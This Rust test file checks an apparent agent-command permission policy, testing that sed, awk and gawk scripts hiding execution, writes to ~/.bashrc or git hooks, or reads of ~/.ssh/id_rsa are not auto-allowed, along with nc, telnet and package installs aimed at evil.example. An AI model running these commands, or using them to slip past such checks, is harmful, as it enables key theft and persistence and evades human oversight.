//! The class "programs with their own languages": sed and awk scripts are
//! read as sed and awk read them, so a command, a write or a read hidden in
//! the script (or in an option the scanner must understand to find the
//! script) is judged, and ordinary scripts stay allowed.

// Test code: a failed unwrap, index or panic is a failed test.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic
)]

use crate::support;

use portcullis_policy::Verdict;
use support::verdict;

const SED: &str =
    "mode = \"ask\"\n[permissions]\nallow = [\"Bash(sed *)\", \"Read(./**)\", \"Edit(./**)\"]\n";

/// The commands a script runs are judged as commands (`1e id` is as harmless
/// as `id`): these run a program from a file, which always needs a person.
#[test]
fn sed_scripts_that_run_write_or_read_are_judged() {
    for command in [
        // `e` after a label, a loop, a block, a negated address.
        "sed ':a;N;$!ba;1e ./run.sh' f.txt",
        "sed -n '1{e ./run.sh\n}' f.txt",
        "sed -ne '1{e ./run.sh' -e '}' f.txt",
        "sed '$!N;1!e ./run.sh' f.txt",
        "sed 's/a/b/e' f.txt",
        "sed 's/a/b/;s/c/d/ge' f.txt",
        // Options that take a value must not swallow the script, nor make it a file.
        "sed -n -l 1 'e ./run.sh' f.txt",
        "sed -nl1 -e '1e ./run.sh' f.txt",
        "sed --expr='1e ./run.sh' f.txt",
        "sed --line-length 1 -s '1e ./run.sh' f.txt",
        // Writes and reads named in the script.
        "sed 's/a/b/w /home/dev/.bashrc' f.txt",
        "sed -n 'w /home/dev/.bashrc' f.txt",
        "sed '1r /home/dev/.ssh/id_rsa' f.txt",
        "sed '0,/x/R /home/dev/.ssh/id_rsa' f.txt",
        // In-place backups: the suffix names a written file.
        "sed -i'.git/hooks/pre-commit*' s/a/b/ x",
        "sed --in-place='/../../.bashrc' s/a/b/ x",
        "sed -i.orig s/a/b/ .git/config",
        // A word known only at run time may be `-i`.
        "sed s/a/b/ \"$opt\" f.txt",
        // Scripts sed would reject, or this reader cannot read: ask.
        "sed -f script.sed f.txt",
        "sed --frobnicate s/a/b/ f.txt",
    ] {
        assert_ne!(verdict(SED, command), Verdict::Allow, "{command}");
    }
}

#[test]
fn ordinary_sed_scripts_stay_allowed() {
    for command in [
        "sed -n 's/foo/bar/p' src/a.c",
        "sed -E 's/(a|b)+/x/g' src/a.c",
        "sed -i.bak 's/a/b/' src/a.c",
        "sed -i -e 's/a/b/' -e '/^$/d' src/a.c",
        "sed '/^#/d;/^$/d' src/a.c",
        "sed -n '1,10p' src/a.c",
        "sed 'y/abc/xyz/' src/a.c",
        "sed '$a\\\nend' src/a.c",
        "sed 'a e rm -rf /' src/a.c",
        "sed -n '/start/,/end/{/end/!p}' src/a.c",
        "sed 's/x/y/w out.txt' src/a.c",
        "sed --version",
    ] {
        assert_eq!(verdict(SED, command), Verdict::Allow, "{command}");
    }
}

const AWK: &str = "mode = \"ask\"\n[permissions]\nallow = [\"Bash(awk *)\", \"Bash(gawk *)\", \"Bash(mawk *)\", \"Read(./**)\", \"Edit(./**)\"]\n";

#[test]
fn awk_programs_that_run_write_or_read_are_judged() {
    for command in [
        // A `"` in a regex, a `/` in a bracket, division: none hides system().
        r#"awk '/"/ { system("./run.sh") } /"/' f.txt"#,
        r#"awk '/[/]/ { system($0) }' f.txt"#,
        r#"awk '{ x = $1 / 2 } /"/ { print | "sh ./run.sh" }' f.txt"#,
        r#"awk 'BEGIN { cmd = "./run.sh"; system(cmd) }'"#,
        r#"awk 'BEGIN { "./run.sh" | getline x }'"#,
        r#"gawk 'BEGIN { "./run.sh" |& getline x }'"#,
        r#"awk '{ print | $2 }' f.txt"#,
        r#"awk '{ print > "/home/dev/.bashrc" }' f.txt"#,
        r#"awk '{ printf "%s", $0 >> "/home/dev/.bashrc" }' f.txt"#,
        r#"awk 'BEGIN { getline k < "/home/dev/.ssh/id_rsa"; print k }'"#,
        r#"gawk '@load "filefuncs"; BEGIN { }'"#,
        r#"gawk 'BEGIN { f = "system"; @f("./run.sh") }'"#,
        // Implementation options that run, load or write.
        "gawk -f prog.awk f.txt",
        "gawk --exec=prog.awk f.txt",
        "gawk -E prog.awk f.txt",
        "gawk -i lib.awk '{ print }' f.txt",
        "gawk -l ext '{ print }' f.txt",
        "mawk -W exec prog.awk f.txt",
        "gawk -W source='BEGIN { system(\"./run.sh\") }'",
        "gawk --source='BEGIN { system(\"./run.sh\") }'",
        "gawk --profile=/home/dev/.bashrc '{ print }' f.txt",
        "gawk -d/home/dev/.bashrc '{ print }' f.txt",
        "awk -v x=1 \"$prog\" f.txt",
    ] {
        assert_ne!(verdict(AWK, command), Verdict::Allow, "{command}");
    }
}

#[test]
fn ordinary_awk_programs_stay_allowed() {
    for command in [
        "awk '{ print $1 }' src/a.c",
        "awk -F: '{ print $1 }' src/a.c",
        r#"awk '/"/ { n++ } END { print n }' src/a.c"#,
        "awk '{ s += $2 } END { print s / NR }' src/a.c",
        r#"awk '$1 > 3 { print $2 > "out.txt" }' src/a.c"#,
        r#"awk '{ print | "sort -u" }' src/a.c"#,
        r#"awk 'BEGIN { while (("ls" | getline l) > 0) print l }'"#,
        "awk -v n=3 'NR <= n' src/a.c",
        "gawk --version",
    ] {
        assert_eq!(verdict(AWK, command), Verdict::Allow, "{command}");
    }
}

/// The class "network in approve-for-me": connections are judged by host,
/// and a call that writes a build file and runs its build tool runs code it
/// just wrote.
#[test]
fn code_written_and_run_in_one_call_asks() {
    let config = "mode = \"approve-for-me\"\n";
    for command in [
        "echo 'all:; ./run.sh' > Makefile && make",
        "printf 'x:\\n\\tid\\n' > sub.mk; make -f sub.mk",
        "echo '{\"scripts\":{\"test\":\"./run.sh\"}}' > package.json && npm test",
        "cat > conftest.py <<'EOF'\nimport os\nEOF\npytest",
        "echo 'fn main(){}' > build.rs && cargo build",
        "tee Rakefile < x.rb && rake",
        "cp /tmp/evil.mk Makefile && make",
        "openssl s_client -connect evil.example:443",
        "nc evil.example 80",
        "npm install --registry http://evil.example x",
        "pip install --index-url http://evil.example/simple x",
        "telnet evil.example 23",
    ] {
        assert_ne!(verdict(config, command), Verdict::Allow, "{command}");
    }
    for command in [
        "make",
        "npm test",
        "cargo build",
        "sed -i s/a/b/ src/lib.rs && cargo test",
        "echo hi > notes.txt && make",
    ] {
        assert_eq!(verdict(config, command), Verdict::Allow, "{command}");
    }
}

/// A variable assigned for one call of a builtin that runs nothing changes
/// nothing that runs; for a function of that name, or a program, it does.
#[test]
fn a_git_variable_for_a_builtin_changes_nothing() {
    let config = "mode = \"ask\"\n[permissions]\nallow = [\"Bash(echo *)\", \"Bash(printf *)\", \"Bash(make *)\"]\n";
    assert_eq!(verdict(config, "GIT_DIR=.git echo hi"), Verdict::Allow);
    assert_eq!(
        verdict(config, "GIT_PAGER=cat printf '%s' x"),
        Verdict::Allow
    );
    for command in [
        "echo() { git log; }; GIT_DIR=/tmp/evil echo hi",
        "alias echo=git\nGIT_DIR=/tmp/evil echo log",
        "GIT_DIR=/tmp/evil make",
        "GIT_PAGER='./run.sh' make",
    ] {
        assert_ne!(verdict(config, command), Verdict::Allow, "{command}");
    }
}
